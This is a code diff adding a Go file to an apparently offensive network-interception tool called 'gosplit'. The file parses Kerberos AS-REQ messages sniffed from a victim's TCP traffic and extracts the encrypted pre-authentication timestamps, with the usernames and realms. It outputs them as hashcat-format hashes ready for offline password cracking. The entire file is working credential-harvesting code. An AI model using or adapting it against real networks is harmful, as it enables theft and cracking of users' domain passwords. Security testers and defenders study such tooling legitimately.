@@ -0,0 +1,101 @@
+package gosplit
+
+import (
+	"encoding/asn1"
+	"encoding/binary"
+	"encoding/hex"
+	"fmt"
+	"strings"
+)
+
+const (
+	krbASReqTag       = 0x6a // [APPLICATION 10], constructed
+	krbASReqMsgType   = 10
+	krbPAEncTimestamp = 2  // PA-ENC-TIMESTAMP padata type
+	krbRC4HMAC        = 23 // rc4-hmac encryption type
+)
+
+type (
+	// krbKDCReq is a KDC-REQ as defined by RFC 4120, omitting fields
+	// that aren't needed to extract pre-authentication data.
+	krbKDCReq struct {
+		PVNO    int           `asn1:"explicit,tag:1"`
+		MsgType int           `asn1:"explicit,tag:2"`
+		PAData  []krbPAData   `asn1:"optional,explicit,tag:3"`
+		ReqBody krbKDCReqBody `asn1:"explicit,tag:4"`
+	}
+
+	krbPAData struct {
+		Type  int    `asn1:"explicit,tag:1"`
+		Value []byte `asn1:"explicit,tag:2"`
+	}
+
+	krbKDCReqBody struct {
+		KDCOptions asn1.BitString   `asn1:"explicit,tag:0"`
+		CName      krbPrincipalName `asn1:"optional,explicit,tag:1"`
+		Realm      string           `asn1:"explicit,tag:2"`
+	}
+
+	krbPrincipalName struct {
+		Type  int      `asn1:"explicit,tag:0"`
+		Parts []string `asn1:"explicit,tag:1"`
+	}
+
+	krbEncryptedData struct {
+		EType  int    `asn1:"explicit,tag:0"`
+		KVNO   int    `asn1:"optional,explicit,tag:1"`
+		Cipher []byte `asn1:"explicit,tag:2"`
+	}
+)
+
+// parseKerberos parses AS-REQ messages sent by the victim over TCP,
+// extracting encrypted timestamps used for pre-authentication.
+func (s *credStream) parseKerberos(creds []Credential) []Credential {
+	for len(s.victim) >= 4 {
+		l := binary.BigEndian.Uint32(s.victim)
+		if l > maxCredBuffer {
+			s.kind, s.victim = unknownStream, nil
+			return creds
+		} else if len(s.victim) < 4+int(l) {
+			return creds
+		}
+		msg := s.victim[4 : 4+l]
+		s.victim = s.victim[4+l:]
+		if c, ok := parseASReq(msg); ok {
+			creds = s.add(creds, c)
+		}
+	}
+	return creds
+}
+
+// parseASReq extracts the PA-ENC-TIMESTAMP from an AS-REQ, returning it
+// in hashcat's format for the encryption type.
+func parseASReq(b []byte) (c Credential, ok bool) {
+	var req krbKDCReq
+	if _, err := asn1.UnmarshalWithParams(b, &req, "application,explicit,tag:10"); err != nil ||
+		req.MsgType != krbASReqMsgType {
+		return
+	}
+	for _, pa := range req.PAData {
+		if pa.Type != krbPAEncTimestamp {
+			continue
+		}
+		var ed krbEncryptedData
+		if _, err := asn1.Unmarshal(pa.Value, &ed); err != nil {
+			return
+		}
+		user := strings.Join(req.ReqBody.CName.Parts, "/")
+		realm := req.ReqBody.Realm
+		c = Credential{Protocol: CredKerberos, Type: "as_req", Username: user, Domain: realm,
+			Extra: map[string]string{"etype": fmt.Sprint(ed.EType)}}
+		if ed.EType == krbRC4HMAC && len(ed.Cipher) > 16 {
+			// hashcat expects the encrypted timestamp followed by its checksum
+			c.Hash = fmt.Sprintf("$krb5pa$%d$%s$%s$$%s%s", ed.EType, user, realm,
+				hex.EncodeToString(ed.Cipher[16:]), hex.EncodeToString(ed.Cipher[:16]))
+		} else {
+			c.Hash = fmt.Sprintf("$krb5pa$%d$%s$%s$%s", ed.EType, user, realm, hex.EncodeToString(ed.Cipher))
+		}
+		return c, true
+	}
+	return
+}